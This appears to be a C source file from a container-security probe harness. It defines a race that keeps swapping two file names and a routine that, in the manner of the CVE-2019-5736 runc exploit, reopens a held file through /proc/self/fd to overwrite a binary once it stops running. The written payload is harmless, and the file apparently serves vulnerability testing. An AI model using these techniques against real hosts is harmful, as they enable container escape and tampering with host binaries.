/* A race that goes on while other things happen: a child swaps two names until its time is over. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "harness/probe/out.h"
#include "harness/probe/probe.h"
#include "harness/probe/try.h"

#define OVERWRITE_PAUSE_MS 2
#define SWAP_MS 3000
#define SWAP_MS_MAX 10000

static long long now_ms(void)
{
	struct timespec now;

	(void) clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000ll + now.tv_nsec / 1000000;
}

/* A file system that cannot exchange (a user kernel's, say) does it in three steps. */
static int swap(const char *a, const char *b)
{
	char name[PATH_MAX];

	if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
		return 0;
	if (errno != EINVAL && errno != ENOSYS)
		return -errno;
	if (snprintf(name, sizeof(name), "%s.between", a) >= (int) sizeof(name))
		return -ENAMETOOLONG;
	return rename(a, name) < 0 || rename(b, a) < 0 || rename(name, b) < 0 ? -errno : 0;
}

/* The first swap is made, and answered for, before the try returns; the child goes on alone and dies with the container. */
static int try_swap(struct try *try)
{
	long long ms = SWAP_MS, end;
	pid_t pid;
	int r;

	if (try->count > 3 && (try_number(try->words[3], &ms) < 0 || ms < 0 || ms > SWAP_MS_MAX))
		return -EINVAL;
	r = swap(try->words[1], try->words[2]);
	if (r < 0)
		return r;
	pid = fork();
	if (pid < 0)
		return -errno;
	if (pid == 0) {
		(void) prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (end = now_ms() + ms; now_ms() < end;)
			if (swap(try->words[1], try->words[2]) < 0)
				_exit(1);
		_exit(0);
	}
	out_int(try->out, "pid", pid);
	return 0;
}

/* A program cannot be opened for writing while it runs anywhere: ETXTBSY. The copy that the link holds on to can be, later. */
static _Noreturn void overwrite_when_free(int fd, long long ms)
{
	static const char text[] = "overwritten\n";
	long long end = now_ms() + ms;
	bool written = false;

	/* Who waits for the end of our streams waits for us. */
	(void) setsid();
	(void) dup2(fd, 0);
	(void) close_range(1, ~0u, 0);
	while (now_ms() < end) {
		int again = written ? -1 : open("/proc/self/fd/0", O_WRONLY | O_TRUNC);

		written |= again >= 0 && write(again, text, sizeof(text) - 1) > 0;
		(void) poll(NULL, 0, OVERWRITE_PAUSE_MS);
	}
	_exit(0);
}

/* As the exploit of CVE-2019-5736 does it. The child outlives who asked for it; its end is a SIGCHLD for whoever adopts it. */
static int try_overwrite(struct try *try)
{
	long long ms = SWAP_MS;
	int fd;
	pid_t pid;

	if (try->count > 2 && (try_number(try->words[2], &ms) < 0 || ms < 0 || ms > SWAP_MS_MAX))
		return -EINVAL;
	fd = open(try->words[1], O_PATH | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	pid = fork();
	if (pid == 0)
		overwrite_when_free(fd, ms);
	(void) close(fd);
	if (pid < 0)
		return -errno;
	out_int(try->out, "pid", pid);
	return 0;
}

const struct try_verb try_race_verbs[] = {
	{ "swap A B [MS]", try_swap, 2,
	  "exchanges two names, and a child goes on so for that time (3000, at most 10000); pid" },
	{ "overwrite P [MS]", try_overwrite, 1,
	  "holds the file, and for that time a child writes to it as soon as nobody runs it; pid" },
	{ NULL },
};
